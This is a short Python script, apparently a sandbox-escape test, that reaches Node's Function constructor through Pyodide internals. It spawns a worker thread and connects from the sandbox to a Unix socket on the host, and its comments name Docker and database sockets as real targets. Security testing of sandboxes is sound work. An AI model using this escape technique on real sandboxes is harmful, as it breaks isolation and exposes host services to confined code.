# Route (gets past the Python-level blocks): a Unix-domain socket on the host's file system, here one
# the test listens on in a temp folder (in production: a database's or Docker's socket). A network
# namespace does not cover path-named Unix sockets, and Node 20's permission model has no network
# permission, so only something else (a mount namespace, a non-root uid, a newer Node's --allow-net)
# can stop the connection.
import _imp
import importlib.machinery
import json

core = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("_pyodide_core"))
Function = core.to_js([]).constructor.constructor

# Node's network APIs are asynchronous and the interpreter thread is busy running Python, so the task
# runs in a new worker thread (the sandbox allows workers) while this thread blocks on Atomics.wait.
run_in_worker = Function(
    "task",
    "argsJson",
    """
    const { Worker } = process.getBuiltinModule("worker_threads");
    const shared = new Int32Array(new SharedArrayBuffer(8 + 4096));
    const body = `
      const { workerData } = require("worker_threads");
      const shared = workerData.shared;
      const done = (text) => {
        const bytes = Buffer.from(String(text)).subarray(0, 4000);
        new Uint8Array(shared.buffer, 8).set(bytes);
        Atomics.store(shared, 1, bytes.length);
        Atomics.store(shared, 0, 1);
        Atomics.notify(shared, 0);
      };
      (async (...args) => { ${task} })(...JSON.parse(workerData.argsJson)).then(
        (value) => done("OK " + value),
        (error) => done("ERR " + (error && error.cause ? error.cause : error)),
      );`;
    const worker = new Worker(body, { eval: true, workerData: { shared, argsJson } });
    const waited = Atomics.wait(shared, 0, 0, 5000);
    void worker.terminate();
    if (waited === "timed-out") throw new Error("the worker did not answer within 5 s");
    const text = Buffer.from(new Uint8Array(shared.buffer, 8, shared[1])).toString();
    if (text.startsWith("ERR ")) throw new Error(text.slice(4));
    return text.slice(3);
    """,
)


def in_worker(task, *args):
    return run_in_worker(task, json.dumps(args))

CONNECT = """
const net = require("net");
return await new Promise((resolve, reject) => {
  const socket = net.connect(args[0]);
  socket.on("connect", () => socket.write("hello from the sandbox\\n"));
  socket.on("data", (data) => { socket.end(); resolve("the host answered " + JSON.stringify(String(data))); });
  socket.on("error", reject);
});
"""
print(f"ESCAPED: connected to the host's Unix socket {UNIX_SOCKET}: {in_worker(CONNECT, UNIX_SOCKET)}")
